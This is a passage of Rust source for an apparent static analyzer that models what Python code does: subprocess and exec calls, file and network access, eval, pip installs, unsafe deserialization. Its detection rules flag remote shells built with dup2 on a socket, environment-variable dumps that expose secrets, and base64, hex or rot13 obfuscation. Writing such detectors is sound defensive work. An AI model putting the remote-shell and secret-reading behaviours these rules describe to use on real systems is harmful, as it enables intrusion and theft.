                        V::Seq(items) if shell.is_none() => {
                            // Either an argv or, with shell=True, its first item as code.
                            let items = items.clone();
                            self.argv(&items, &cwd, input.as_ref());
                            if let Some(first) = items.first()
                                && !matches!(first, V::Str(_))
                            {
                                self.opaque("subprocess with computed command");
                            }
                        }
                        other => {
                            let other = other.clone();
                            self.shell(&other, &cwd, input.as_ref());
                        }
                    }
                }
                if q == "subprocess.Popen" {
                    V::Child
                } else {
                    V::Unknown
                }
            }
            K::ProcExec => {
                let cwd = self.child_cwd(a.kw("cwd"));
                self.argv(&a.pos, &cwd, None);
                V::Child
            }
            K::ExecL { skip, env } => {
                let mut items: Vec<V> = a.pos.iter().skip(skip).cloned().collect();
                if env && items.len() > 1 {
                    items.pop();
                }
                if items.len() > 1 {
                    items.remove(1);
                }
                let cwd = self.cwd.clone();
                self.argv(&items, &cwd, None);
                V::Unknown
            }
            K::ExecV { skip } => {
                let path = a.pos.get(skip).cloned().unwrap_or(V::Unknown);
                let mut items = vec![path];
                match a.pos.get(skip + 1) {
                    Some(V::Seq(xs)) => items.extend(xs.iter().skip(1).cloned()),
                    Some(_) => items.push(V::Unknown),
                    None => {}
                }
                let cwd = self.cwd.clone();
                self.argv(&items, &cwd, None);
                V::Unknown
            }
            K::PtySpawn => {
                let cmd = a.arg(0, "argv").cloned().unwrap_or(V::Unknown);
                let cwd = self.cwd.clone();
                match &cmd {
                    V::Str(_) => self.argv(std::slice::from_ref(&cmd), &cwd, None),
                    other => self.shell(other, &cwd, None),
                }
                V::Unknown
            }
            K::Fork => {
                if self.whiles > 0 {
                    self.opaque("unbounded process creation: fork in a loop");
                }
                V::Unknown
            }
            K::Open => {
                let path = a.arg(0, "file").cloned();
                self.open_mode(path.as_ref(), a.arg(1, "mode"), "r");
                V::File(Box::new(path.unwrap_or(V::Unknown)))
            }
            K::OsOpen => {
                let path = a.arg(0, "path").cloned();
                let mask = 1 | 2 | 0o100 | 0o1000 | 0o2000;
                match a.arg(1, "flags") {
                    Some(V::Int(f)) if f & mask == 0 => self.read(path.as_ref()),
                    _ => self.write(path.as_ref()),
                }
                V::Unknown
            }
            K::Read => {
                let p = a
                    .arg(0, "path")
                    .cloned()
                    .unwrap_or_else(|| V::Str(".".into()));
                self.read(Some(&p));
                if q == "os.listdir" {
                    V::Iter(Box::new(V::Seg))
                } else {
                    V::Iter(Box::new(V::Unknown))
                }
            }
            K::Walk => {
                let p = a
                    .arg(0, "top")
                    .cloned()
                    .unwrap_or_else(|| V::Str(".".into()));
                self.read(Some(&p));
                let root = match &p {
                    V::Str(_) | V::Tmpl(_) | V::Path(_) => {
                        let mut t = tmpl(&p).into_owned();
                        if !t.ends_with('/') {
                            t.push('/');
                        }
                        t.push(HOLE);
                        text(t)
                    }
                    _ => V::Unknown,
                };
                V::Iter(Box::new(V::Seq(vec![
                    root,
                    V::Iter(Box::new(V::Seg)),
                    V::Iter(Box::new(V::Seg)),
                ])))
            }
            K::Glob => {
                let pat = a.arg(0, "pathname").cloned().unwrap_or(V::Unknown);
                let root = a.kw("root_dir").cloned();
                let full = match &root {
                    Some(r @ (V::Str(_) | V::Tmpl(_) | V::Path(_))) => {
                        join_values(&[r.clone(), pat.clone()])
                    }
                    _ => pat.clone(),
                };
                match &full {
                    V::Str(s) => {
                        let s = self.expand_tilde(s).into_owned();
                        let r = if self.cwd_known || s.starts_with('/') {
                            paths::from_text(&self.cwd, &s, true)
                        } else {
                            paths::unknown("/", "")
                        };
                        self.push(Op::FileRead { path: r });
                        let t: String = s
                            .chars()
                            .map(|c| if matches!(c, '*' | '?') { SEG } else { c })
                            .collect();
                        V::Iter(Box::new(text(t)))
                    }
                    other => {
                        self.read(Some(other));
                        V::Iter(Box::new(V::Unknown))
                    }
                }
            }
            K::Write => {
                self.write(a.arg(0, "path"));
                V::Unknown
            }
            K::Delete(rec) => {
                self.delete(a.arg(0, "path"), rec);
                V::Unknown
            }
            K::Move(rec) => {
                self.delete(a.arg(0, "src"), rec);
                self.write(a.arg(1, "dst"));
                a.arg(1, "dst").cloned().unwrap_or(V::Unknown)
            }
            K::Copy => {
                self.read(a.arg(0, "src"));
                self.write(a.arg(1, "dst"));
                a.arg(1, "dst").cloned().unwrap_or(V::Unknown)
            }
            K::Chmod => {
                let (path, mode) = if q == "shutil.copymode" {
                    (a.arg(1, "dst"), None)
                } else {
                    (a.arg(0, "path"), a.arg(1, "mode"))
                };
                let setid = bits(mode) & 0o6000 != 0;
                let path = path.cloned();
                self.mode(path.as_ref(), setid);
                V::Unknown
            }
            K::Chown => {
                self.mode(a.arg(0, "path"), false);
                V::Unknown
            }
            K::Chdir => {
                match a.arg(0, "path") {
                    Some(V::Str(s)) => {
                        let s = s.clone();
                        let r = self.lit_path(&s);
                        if r.exact == crate::ops::Exactness::Literal {
                            self.cwd = r.path;
                        } else {
                            self.cwd_known = false;
                        }
                    }
                    Some(V::Path(p)) if matches!(**p, V::Str(_)) => {
                        let r = self.lit_path(&tmpl(p));
                        self.cwd = r.path;
                    }
                    _ => self.cwd_known = false,
                }
                V::None
            }
            K::Link => {
                self.write(a.arg(1, "dst"));
                V::Unknown
            }
            K::Logging => {
                self.write(a.kw("filename"));
                V::Unknown
            }
            K::LogHandler => {
                self.write(a.arg(0, "filename"));
                V::Unknown
            }
            K::Archive => {
                let path = a.arg(0, "file").or_else(|| a.kw("name")).cloned();
                self.open_mode(path.as_ref(), a.arg(1, "mode"), "r");
                V::File(Box::new(path.unwrap_or(V::Unknown)))
            }
            K::Unpack => {
                self.read(a.arg(0, "filename"));
                let dir = a
                    .arg(1, "extract_dir")
                    .cloned()
                    .unwrap_or_else(|| V::Str(".".into()));
                self.write(Some(&dir));
                V::Unknown
            }
            K::MakeArchive => {
                self.write(a.arg(0, "base_name"));
                let root = a
                    .arg(2, "root_dir")
                    .cloned()
                    .unwrap_or_else(|| V::Str(".".into()));
                self.read(Some(&root));
                V::Unknown
            }
            K::Retrieve => {
                self.net_url(a.arg(0, "url"), "http");
                self.write(a.arg(1, "filename").or_else(|| a.kw("out")));
                V::Unknown
            }
            K::PathNew => {
                let joined = if a.pos.is_empty() {
                    V::Str(".".into())
                } else {
                    let parts: Vec<V> = a
                        .pos
                        .iter()
                        .map(|p| match p {
                            V::Path(inner) => (**inner).clone(),
                            other => other.clone(),
                        })
                        .collect();
                    join_values(&parts)
                };
                V::Path(Box::new(joined))
            }
            K::PathHome => V::Path(Box::new(V::Str(self.ctx.home.clone()))),
            K::PathCwd => V::Path(Box::new(self.getcwd())),
            K::Join => {
                let parts: Vec<V> = a
                    .pos
                    .iter()
                    .map(|p| match p {
                        V::Path(inner) => (**inner).clone(),
                        other => other.clone(),
                    })
                    .collect();
                join_values(&parts)
            }
            K::Expanduser => match a.arg(0, "path") {
                Some(V::Str(s)) => V::Str(self.expand_tilde(s).into_owned()),
                Some(V::Tmpl(t)) => text(self.expand_tilde(t).into_owned()),
                Some(V::Path(p)) => {
                    let t = tmpl(p).into_owned();
                    V::Path(Box::new(text(self.expand_tilde(&t).into_owned())))
                }
                _ => V::Unknown,
            },
            K::Expandvars => match a.arg(0, "path") {
                Some(v @ (V::Str(_) | V::Tmpl(_))) => {
                    let t = tmpl(v)
                        .replace("${HOME}", &self.ctx.home)
                        .replace("$HOME", &self.ctx.home);
                    let mut out = String::with_capacity(t.len());
                    let mut chars = t.chars().peekable();
                    while let Some(ch) = chars.next() {
                        if ch == '$'
                            && chars
                                .peek()
                                .is_some_and(|c| c.is_alphanumeric() || *c == '_' || *c == '{')
                        {
                            while chars.peek().is_some_and(|c| {
                                c.is_alphanumeric() || matches!(c, '_' | '{' | '}')
                            }) {
                                chars.next();
                            }
                            out.push(HOLE);
                        } else {
                            out.push(ch);
                        }
                    }
                    text(out)
                }
                _ => V::Unknown,
            },
            K::Abspath => match a.arg(0, "path") {
                Some(V::Str(s)) if self.cwd_known || s.starts_with('/') => {
                    V::Str(paths::resolve(&self.cwd, s))
                }
                Some(v @ V::Tmpl(_)) => v.clone(),
                Some(V::Path(p)) => (**p).clone(),
                _ => V::Unknown,
            },
            K::Dirname => match a.arg(0, "p") {
                Some(v @ (V::Str(_) | V::Tmpl(_) | V::Path(_))) => text(dirname(&tmpl(v))),
                _ => V::Unknown,
            },
            K::Basename => match a.arg(0, "p") {
                Some(v @ (V::Str(_) | V::Tmpl(_) | V::Path(_))) => {
                    text(basename(&tmpl(v)).to_string())
                }
                _ => V::Unknown,
            },
            K::Getcwd => self.getcwd(),
            K::Getenv => {
                let v = match a.arg(0, "key") {
                    Some(V::Str(k)) => self.env_var(k),
                    _ => V::Unknown,
                };
                match (v, a.arg(1, "default")) {
                    (V::Unknown, Some(d)) => alt(vec![V::Unknown, d.clone()]),
                    (v, _) => v,
                }
            }
            K::Which => match a.arg(0, "cmd") {
                Some(v @ V::Str(_)) => v.clone(),
                _ => V::Unknown,
            },
            K::TempDir => V::Str("/tmp".into()),
            K::MkdTemp | K::MksTemp => {
                let dir = match a.kw("dir").or_else(|| a.pos.get(2)) {
                    Some(d @ (V::Str(_) | V::Tmpl(_))) => tmpl(d).into_owned(),
                    _ => "/tmp".to_string(),
                };
                let p = text(format!("{}/tmp{SEG}", dir.trim_end_matches('/')));
                if k == K::MkdTemp {
                    p
                } else {
                    V::Seq(vec![V::Unknown, p])
                }
            }
            K::Getpid => V::Str("$$".into()),
            K::Getppid => V::Str("$PPID".into()),
            K::Hostname => V::Str("localhost".into()),
            K::Decode(d) => {
                let src = a.pos.first();
                let enc = a.arg(1, "encoding").and_then(|e| match e {
                    V::Str(s) => Some(s.to_ascii_lowercase().replace('-', "_")),
                    _ => None,
                });
                match (d, src) {
                    (_, Some(c @ V::FileText(_))) => c.clone(),
                    (Dec::B64, Some(V::Str(s))) => {
                        decode_b64(s).map_or(V::Unknown, |b| bytes_text(&b))
                    }
                    (Dec::Hex, Some(V::Str(s))) => {
                        decode_hex(s).map_or(V::Unknown, |b| bytes_text(&b))
                    }
                    (Dec::Codecs, Some(V::Str(s))) => match enc.as_deref() {
                        Some("rot13" | "rot_13") => V::Str(rot13(s)),
                        Some("hex" | "hex_codec") => {
                            decode_hex(s).map_or(V::Unknown, |b| bytes_text(&b))
                        }
                        Some("base64" | "base64_codec" | "base_64") => {
                            decode_b64(s).map_or(V::Unknown, |b| bytes_text(&b))
                        }
                        None | Some("utf_8" | "utf8" | "ascii" | "latin_1" | "latin1") => {
                            V::Str(s.clone())
                        }
                        _ => V::Unknown,
                    },
                    _ => V::Unknown,
                }
            }
            K::Str => match a.pos.first() {
                None => V::Str(String::new()),
                Some(v @ (V::Str(_) | V::Tmpl(_) | V::FileText(_) | V::Code)) => v.clone(),
                Some(V::Int(i)) => V::Str(i.to_string()),
                Some(V::Path(p)) => (**p).clone(),
                Some(V::Alt(vs)) => alt(vs.iter().filter(|v| is_text(v)).cloned().collect()),
                _ => V::Unknown,
            },
            K::Bytes => match a.pos.first() {
                Some(v @ (V::Str(_) | V::Tmpl(_) | V::FileText(_))) => v.clone(),
                Some(V::Int(n)) => {
                    if *n >= HUGE_ALLOC {
                        self.opaque("resource exhaustion: allocates a huge amount of memory");
                    }
                    V::Unknown
                }
                Some(V::Seq(xs)) => {
                    let b: Option<Vec<u8>> = xs
                        .iter()
                        .map(|x| match x {
                            V::Int(i) => u8::try_from(*i).ok(),
                            _ => None,
                        })
                        .collect();
                    b.map_or(V::Unknown, |b| bytes_text(&b))
                }
                _ => V::Unknown,
            },
            K::Chr => match a.pos.first() {
                Some(V::Int(i)) => u32::try_from(*i)
                    .ok()
                    .and_then(char::from_u32)
                    .map_or(V::Unknown, |c| V::Str(c.to_string())),
                _ => V::Unknown,
            },
            K::Ord => match a.pos.first() {
                Some(V::Str(s)) if s.chars().count() == 1 => {
                    V::Int(i64::from(u32::from(s.chars().next().unwrap_or('\0'))))
                }
                _ => V::Unknown,
            },
            K::Int => match (a.pos.first(), a.arg(1, "base")) {
                (Some(V::Int(i)), _) => V::Int(*i),
                (Some(V::Str(s)), None) => s.trim().parse().map_or(V::Unknown, V::Int),
                (Some(V::Str(s)), Some(V::Int(b))) if (2..=36).contains(b) => {
                    let t = s.trim();
                    let t = t
                        .strip_prefix("0x")
                        .or_else(|| t.strip_prefix("0o"))
                        .or_else(|| t.strip_prefix("0b"))
                        .unwrap_or(t);
                    i64::from_str_radix(t, u32::try_from(*b).unwrap_or(10))
                        .map_or(V::Unknown, V::Int)
                }
                _ => V::Unknown,
            },
            K::List => match a.pos.first() {
                None => V::Seq(Vec::new()),
                Some(v @ V::Seq(_)) if q != "sorted" => v.clone(),
                Some(V::Str(s)) if q != "sorted" && s.chars().count() <= MAX_SEQ => {
                    V::Seq(s.chars().map(|c| V::Str(c.to_string())).collect())
                }
                Some(v) => match iter_elem(v) {
                    V::Unknown => V::Unknown,
                    e => V::Iter(Box::new(e)),
                },
            },
            K::Enumerate => match a.pos.first() {
                Some(v) => V::Iter(Box::new(V::Seq(vec![V::Unknown, iter_elem(v)]))),
                None => V::Unknown,
            },
            K::Zip => V::Iter(Box::new(V::Seq(a.pos.iter().map(iter_elem).collect()))),
            K::Reversed => match a.pos.first() {
                Some(V::Seq(xs)) => V::Seq(xs.iter().rev().cloned().collect()),
                Some(V::Str(s)) => V::Str(s.chars().rev().collect()),
                _ => V::Unknown,
            },
            K::Map => {
                let f = a.pos.first().cloned().unwrap_or(V::Unknown);
                let it = a.pos.get(1).cloned().unwrap_or(V::Unknown);
                if !callable(&f) {
                    return V::Unknown;
                }
                match &it {
                    V::Seq(xs) if xs.len() <= MAX_UNROLL && self.spare() => {
                        let mut out = Vec::with_capacity(xs.len());
                        for x in xs {
                            out.push(self.invoke(f.clone(), vec![x.clone()]));
                        }
                        V::Seq(out)
                    }
                    V::Str(s) if s.chars().count() <= MAX_UNROLL && self.spare() => {
                        let mut out = Vec::new();
                        for ch in s.chars() {
                            out.push(self.invoke(f.clone(), vec![V::Str(ch.to_string())]));
                        }
                        V::Seq(out)
                    }
                    other => {
                        let e = iter_elem(other);
                        self.invoke(f, vec![e]);
                        V::Unknown
                    }
                }
            }
            K::Getattr => {
                let obj = a.pos.first().cloned().unwrap_or(V::Unknown);
                match a.pos.get(1) {
                    Some(V::Str(n)) => {
                        let n = n.clone();
                        self.attr(obj, &n)
                    }
                    Some(V::Alt(ns)) => {
                        let ns = ns.clone();
                        alt(ns
                            .into_iter()
                            .map(|n| match n {
                                V::Str(n) => self.attr(obj.clone(), &n),
                                _ => V::Unknown,
                            })
                            .collect())
                    }
                    _ => {
                        if let V::Sym(m) = &obj
                            && sensitive_module(m)
                        {
                            self.opaque(format!("getattr of {m} with a computed name"));
                        }
                        V::Unknown
                    }
                }
            }
            K::Import { full } => match a.arg(0, "name") {
                Some(V::Str(n)) => {
                    if is_db_module(n) {
                        self.db_api = true;
                    }
                    let fromlist = truthy(a.arg(3, "fromlist")) == Some(true);
                    if full || fromlist {
                        V::Sym(norm_qual(n))
                    } else {
                        V::Sym(norm_qual(n.split('.').next().unwrap_or(n)))
                    }
                }
                _ => {
                    self.opaque("import of a computed module name");
                    V::Unknown
                }
            },
            K::Globals => V::Globals,
            K::Vars => match a.pos.first() {
                Some(v @ V::Sym(_)) => v.clone(),
                None => V::Globals,
                _ => V::Unknown,
            },
            K::Socket => V::Socket,
            K::SockConnect => {
                self.net_addr(a.arg(0, "address"), None, "socket.connect");
                V::Socket
            }
            K::SockServer => {
                self.net_addr(a.arg(0, "address"), None, "socket.bind");
                V::Socket
            }
            K::Dns => {
                let port = match a.arg(1, "port") {
                    Some(V::Int(p)) => u16::try_from(*p).ok(),
                    _ => None,
                };
                let host = match a.arg(0, "host").or_else(|| a.kw("hostname")) {
                    Some(V::Str(h)) => host_text(h),
                    _ => "?".to_string(),
                };
                self.net(host, port, "dns");
                V::Unknown
            }
            K::Url(i, via) => {
                let u = a.arg(i, "url").cloned();
                self.net_url(u.as_ref(), via);
                self.send_args(&a, via);
                V::Unknown
            }
            K::DataRead => {
                let src = a
                    .arg(0, "filepath_or_buffer")
                    .or_else(|| a.kw("io"))
                    .cloned();
                if let Some(s) = &src {
                    for x in alts(s) {
                        if is_text(x) && tmpl(x).contains("://") {
                            self.net_url(Some(x), "http");
                        } else {
                            self.read(Some(x));
                        }
                    }
                }
                V::Unknown
            }
            K::HttpConn(dflt) => {
                let port = match a.arg(1, "port") {
                    Some(V::Int(p)) => u16::try_from(*p).ok(),
                    _ => None,
                };
                self.net_addr(a.arg(0, "host"), port.or(Some(dflt)), "http");
                V::Http("http")
            }
            K::HttpSession(via) => V::Http(via),
            K::Request => {
                let url = a.arg(0, "url").cloned().unwrap_or(V::Unknown);
                let data = a.arg(1, "data").cloned().unwrap_or(V::None);
                V::Request(Box::new((url, data)))
            }
            K::HostClient(dflt, via) => {
                let host = a.arg(0, "host").cloned();
                if let Some(h) = host
                    && !matches!(h, V::None)
                    && h != V::Str(String::new())
                {
                    let port = match a.arg(1, "port") {
                        Some(V::Int(p)) => u16::try_from(*p).ok(),
                        _ => None,
                    };
                    self.net_addr(Some(&h), port.or(Some(dflt)), via);
                }
                V::Client(via, dflt)
            }
            K::SshClient => V::Client("ssh", 22),
            K::SshTransport => {
                self.net_addr(a.arg(0, "sock"), Some(22), "ssh");
                V::Unknown
            }
            K::Boto => {
                let host = match a.arg(0, "service_name") {
                    Some(V::Str(s)) => format!("{}.amazonaws.com", s.to_ascii_lowercase()),
                    _ => "amazonaws.com".to_string(),
                };
                self.net(host, Some(443), "boto3");
                V::Client("boto3", 443)
            }
            K::CloneFrom => {
                self.net_url(a.arg(0, "url"), "git");
                self.write(a.arg(1, "to_path"));
                V::Unknown
            }
            K::Pip => {
                match a.arg(0, "args") {
                    Some(V::Seq(xs)) => {
                        let words: Vec<String> =
                            xs.iter().map(|x| tmpl(x).replace(HOLES, "?")).collect();
                        if let Some(sub) = words.first()
                            && matches!(sub.as_str(), "install" | "download" | "wheel")
                        {
                            let what: Vec<&str> = words[1..]
                                .iter()
                                .map(String::as_str)
                                .filter(|w| !w.starts_with('-'))
                                .collect();
                            self.push(Op::PackageInstall {
                                manager: "pip".into(),
                                what: what.join(" "),
                            });
                        }
                    }
                    _ => self.opaque("pip with computed arguments"),
                }
                V::Unknown
            }
            K::Eval(what) => {
                let code = a.arg(0, "source").cloned();
                match code {
                    Some(c) => self.exec_code(Some(&c), what),
                    None => self.opaque(format!("{what} of computed code")),
                }
                V::Unknown
            }
            K::Compile => {
                match a.arg(0, "source") {
                    Some(V::Str(s)) => {
                        let s = s.clone();
                        self.sub_python(&s, "compile");
                        return V::Code;
                    }
                    Some(v @ V::FileText(_)) => return v.clone(),
                    _ => self.opaque("compile of computed code"),
                }
                V::Unknown
            }
            K::RunPath => {
                match a.arg(0, "path_name") {
                    Some(p) => {
                        let p = p.clone();
                        self.script(&p, Lang::Python);
                    }
                    None => self.opaque("runs code from a computed path"),
                }
                V::Unknown
            }
            K::RunModule => {
                match a.arg(0, "mod_name") {
                    Some(m @ V::Str(_)) => {
                        let items = vec![V::Str("python3".into()), V::Str("-m".into()), m.clone()];
                        let cwd = self.cwd.clone();
                        self.argv(&items, &cwd, None);
                    }
                    _ => self.opaque("runs a computed module"),
                }
                V::Unknown
            }
            K::LoadSource => {
                match a.arg(1, "location").or_else(|| a.kw("path")) {
                    Some(p) => {
                        let p = p.clone();
                        self.script(&p, Lang::Python);
                    }
                    None => self.opaque("loads code from a computed path"),
                }
                V::Unknown
            }
            K::Unsafe => {
                self.opaque(format!("unsafe deserialization: {q}"));
                V::Unknown
            }
            K::Yaml => {
                let loader = a.arg(1, "Loader");
                let safe = matches!(loader, Some(V::Sym(l)) if l.ends_with("SafeLoader") || l.ends_with("BaseLoader"));
                if !safe {
                    self.opaque(format!("unsafe deserialization: {q} without SafeLoader"));
                }
                V::Unknown
            }
            K::Torch => {
                if truthy(a.kw("weights_only")) != Some(true) {
                    self.opaque("unsafe deserialization: torch.load");
                }
                V::Unknown
            }
            K::NumpyLoad => {
                if truthy(a.kw("allow_pickle")) != Some(false) && a.kw("allow_pickle").is_some() {
                    self.opaque("unsafe deserialization: numpy.load with allow_pickle");
                }
                self.read(a.arg(0, "file"));
                V::Unknown
            }
            K::Native => {
                self.opaque(format!("native code: {q}"));
                V::Unknown
            }
            K::Priv => {
                self.push(Op::Privilege { how: q.to_string() });
                V::Unknown
            }
            K::Kill => {
                let target = pid_text(a.arg(0, "pid").or_else(|| a.kw("thread_id")));
                let how = sig_text(a.arg(1, "sig").or_else(|| a.kw("signalnum")), "SIGTERM");
                self.push(Op::Signal { target, how });
                V::Unknown
            }
            K::KillPg => {
                let target = format!("-{}", pid_text(a.arg(0, "pgid")));
                let how = sig_text(a.arg(1, "sig"), "SIGTERM");
                self.push(Op::Signal { target, how });
                V::Unknown
            }
            K::PsProcess => match a.arg(0, "pid") {
                None => V::Process("$$".into()),
                Some(p) => V::Process(pid_text(Some(p))),
            },
            K::PsIter => V::Iter(Box::new(V::Process("?".into()))),
            K::CronTab => V::CronTab,
            K::Spawn => {
                let target = a
                    .kw("target")
                    .or_else(|| a.kw("function"))
                    .or_else(|| a.pos.get(1))
                    .cloned();
                let timer = q == "threading.Timer";
                let targs = match a
                    .kw("args")
                    .or_else(|| a.pos.get(if timer { 2 } else { 3 }))
                {
                    Some(V::Seq(xs)) => xs.clone(),
                    _ => Vec::new(),
                };
                if let Some(t) = target {
                    self.escape(&t, &targs);
                }
                V::Unknown
            }
            K::StartThread => {
                let f = a.pos.first().cloned().unwrap_or(V::Unknown);
                let targs = match a.pos.get(1) {
                    Some(V::Seq(xs)) => xs.clone(),
                    _ => Vec::new(),
                };
                self.escape(&f, &targs);
                V::Unknown
            }
            K::DbConnect(kind) => self.db_connect(kind, q, &a),
            K::ReadSql => {
                let db = match a.arg(1, "con") {
                    Some(V::Db(d)) => d.clone(),
                    _ => None,
                };
                let s = a.arg(0, "sql").cloned();
                self.sql(s.as_ref(), db, a.arg(2, "params").is_some());
                V::Unknown
            }
            K::Endless => V::Endless,
            K::EnvDump => {
                self.environ_dump();
                V::Iter(Box::new(V::Unknown))
            }
            K::Dup2 => {
                if matches!(a.pos.first(), Some(V::SockFd | V::Socket)) {
                    self.opaque("connects standard streams to a network socket (a remote shell)");
                }
                V::Unknown
            }
            K::ShlexSplit => match a.arg(0, "s") {
                Some(V::Str(t)) => {
                    if t.contains(['\'', '"', '\\']) {
                        V::Str(t.clone())
                    } else {
                        V::Seq(
                            t.split_whitespace()
                                .map(|w| V::Str(w.to_string()))
                                .collect(),
                        )
                    }
                }
                Some(v @ V::Tmpl(_)) => v.clone(),
                _ => V::Unknown,
            },
            K::ShlexQuote => match a.arg(0, "s") {
                Some(V::Str(t)) => {
                    let mut o = String::new();
                    sh_quote(t, false, &mut o);
                    V::Str(o)
                }
                _ => V::Unknown,
            },
            K::ShlexJoin => match a.arg(0, "split_command") {
                Some(V::Seq(xs)) => {
                    let refs: Vec<&V> = xs.iter().collect();
                    argv_line(&refs).map_or(V::Unknown, V::Str)
                }
                _ => V::Unknown,
            },
            K::HostPort(via) => {
                let port = match a.arg(1, "port") {
                    Some(V::Int(p)) => u16::try_from(*p).ok(),
                    _ => None,
                };
                self.net_addr(a.arg(0, "host"), port, via);
                V::Unknown
            }
            K::Raw => {
                self.net("?".into(), None, "raw packets");
                V::Unknown
            }
            K::TempFile => V::File(Box::new(text(format!("/tmp/tmp{SEG}")))),
            K::Repeat => {
                if a.arg(1, "times").is_none() {
                    V::Endless
                } else {
                    V::Iter(Box::new(a.pos.first().cloned().unwrap_or(V::Unknown)))
                }
            }
        }
    }

    fn class_var(&self, ci: usize, name: &str) -> Option<V> {
        self.classes
            .get(ci)?
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
    }

    /// What iterating `v` yields; enumerating the environment reads every
    /// variable in it, secrets included.
    fn iter_of(&mut self, v: &V) -> V {
        if matches!(v, V::Sym(q) if q == "os.environ") {
            self.environ_dump();
        }
        iter_elem(v)
    }

    fn environ_dump(&mut self) {
        self.push(Op::FileRead {
            path: paths::literal("/", "/proc/self/environ"),
        });
    }

    fn getcwd(&self) -> V {
        if self.cwd_known {
            V::Str(self.cwd.clone())
        } else {
            V::Unknown
        }
    }

    fn db_connect(&mut self, kind: Db, q: &str, a: &Args<'a>) -> V {
        self.db_api = true;
        let mut name: Option<String> = None;
        let via = q.split('.').next().unwrap_or(q).to_string();
        match kind {
            Db::Sqlite => match a.arg(0, "database") {
                Some(p @ (V::Str(_) | V::Path(_))) => {
                    let t = tmpl(p).into_owned();
                    if t.is_empty() || t.contains(":memory:") || t.contains("mode=memory") {
                        name = Some("memory".into());
                    } else {
                        let t = t.strip_prefix("file:").unwrap_or(&t);
                        let t = t.split('?').next().unwrap_or(t).to_string();
                        self.read(Some(&V::Str(t.clone())));
                        name = Some(file_stem(&t).to_string());
                    }
                }
                Some(other) => {
                    let other = other.clone();
                    self.read(Some(&other));
                }
                None => {}
            },
            Db::Server(port) => {
                for k in ["dbname", "database", "db"] {
                    if let Some(V::Str(s)) = a.kw(k) {
                        name = Some(s.clone());
                    }
                }
                let dsn = a
                    .pos
                    .first()
                    .or_else(|| a.kw("dsn"))
                    .or_else(|| a.kw("conninfo"));
                let mut host: Option<String> = None;
                let mut dsn_port: Option<u16> = None;
                if let Some(V::Str(d)) = dsn {
                    if d.contains("://") {
                        let (n, h, p) = parse_db_url(d);
                        name = name.or(n);
                        host = h;
                        dsn_port = p;
                    } else {
                        for pair in d.split_whitespace() {
                            if let Some((k, v)) = pair.split_once('=') {
                                let v = v.trim_matches('\'').to_string();
                                match k {
                                    "dbname" | "database" => name = Some(v),
                                    "host" | "hostaddr" => host = Some(v),
                                    "port" => dsn_port = v.parse().ok(),
                                    _ => {}
                                }
                            }
                        }
                    }
                }
                match a.kw("host").or_else(|| a.kw("hostname")) {
                    Some(V::Str(h)) => host = Some(h.clone()),
                    Some(V::None) | None => {}
                    Some(_) => host = Some("?".into()),
                }
                let p = match a.kw("port") {
                    Some(V::Int(p)) => u16::try_from(*p).ok(),
                    _ => None,
                };
                if let Some(h) = host
                    && !h.starts_with('/')
                    && !h.is_empty()
                {
                    self.net(host_text(&h), p.or(dsn_port).or(Some(port)), &via);
                }
            }
            Db::Url => {
                if let Some(V::Str(u)) = a.arg(0, "url") {
                    let scheme = u.split("://").next().unwrap_or("");
                    if scheme.starts_with("sqlite") {
                        let path = u.split_once(":///").map_or("", |(_, p)| p);
                        name = Some(if path.is_empty() || path.contains(":memory:") {
                            "memory".into()
                        } else {
                            file_stem(path.split('?').next().unwrap_or(path)).to_string()
                        });
                    } else {
                        let (n, h, p) = parse_db_url(u);
                        name = n;
                        if let Some(h) = h {
                            self.net(h, p, &via);
                        }
                    }
                }
            }
        }
        if name.is_some() {
            self.db.clone_from(&name);
        }
        V::Db(name)
    }

    #[inline(never)]
    fn method(&mut self, recv: V, name: &str, a: Args<'a>, recv_expr: &'a Expr) -> V {
        match recv {
            V::Alt(vs) => {
                let mut out = Vec::with_capacity(vs.len());
                for v in vs {
                    let args = Args {
                        pos: a.pos.clone(),
                        kw: a.kw.clone(),
                        star_kw: a.star_kw,
                    };
                    out.push(self.method(v, name, args, recv_expr));
                }
                alt(out)
            }
            V::Str(_) | V::Tmpl(_) => self.str_method(&recv, name, &a),
            V::FileText(_) => match name {
                "decode" | "encode" | "strip" | "rstrip" | "lstrip" => recv,
                _ => V::Unknown,
            },
            V::Seq(ref xs) => {
                if let Expr::Name(n) = recv_expr {
                    let updated = match (name, a.pos.as_slice()) {
                        ("append", [x]) if xs.len() < MAX_SEQ => {
                            let mut v = xs.clone();
                            v.push(x.clone());
                            Some(V::Seq(v))
                        }
                        ("extend", [x]) => Some(concat(&recv, x)),
                        ("insert", [V::Int(i), x]) if xs.len() < MAX_SEQ => {
                            let mut v = xs.clone();
                            let at = if *i < 0 {
                                py_index(v.len(), *i).unwrap_or(0)
                            } else {
                                usize::try_from(*i).unwrap_or(usize::MAX).min(v.len())
                            };
                            v.insert(at, x.clone());
                            Some(V::Seq(v))
                        }
                        (
                            "append" | "extend" | "insert" | "pop" | "remove" | "clear" | "sort"
                            | "reverse",
                            _,
                        ) => Some(V::Unknown),
                        _ => None,
                    };
                    if let Some(v) = updated {
                        self.set_var(n.id.as_str(), v);
                        return V::None;
                    }
                }
                match name {
                    "copy" => recv,
                    "index" | "count" => V::Unknown,
                    _ => {
                        self.unknown_call(a);
                        V::Unknown
                    }
                }
            }
            V::Path(p) => self.path_method(*p, name, &a),
            V::File(p) => match name {
                "read" | "readlines" | "readline" | "read1" | "__iter__" => V::FileText(p),
                "__enter__" => V::File(p),
                "extractall" | "extract" => {
                    let dir = a
                        .arg(if name == "extract" { 1 } else { 0 }, "path")
                        .cloned()
                        .unwrap_or_else(|| V::Str(".".into()));
                    self.write(Some(&dir));
                    V::Unknown
                }
                _ => V::Unknown,
            },
            V::Db(db) => match name {
                "cursor" | "connect" | "begin" | "__enter__" | "raw_connection" | "session" => {
                    V::Db(db)
                }
                "execute" | "executemany" | "executescript" | "exec_driver_sql" | "fetch"
                | "fetchrow" | "fetchval" | "query" | "sql" => {
                    let s = a.arg(0, "sql").or_else(|| a.kw("query")).cloned();
                    self.sql(s.as_ref(), db, a.pos.len() > 1);
                    V::Unknown
                }
                _ => V::Unknown,
            },
            V::Socket => {
                match name {
                    "connect" | "connect_ex" => {
                        let addr = a.arg(0, "address").cloned();
                        self.net_addr(addr.as_ref(), None, "socket.connect");
                    }
                    "sendto" => {
                        let addr = a.pos.last().cloned();
                        self.net_addr(addr.as_ref(), None, "socket.sendto");
                        self.send_args(&a, "socket.sendto");
                    }
                    "send" | "sendall" | "sendfile" | "sendmsg" | "write" => {
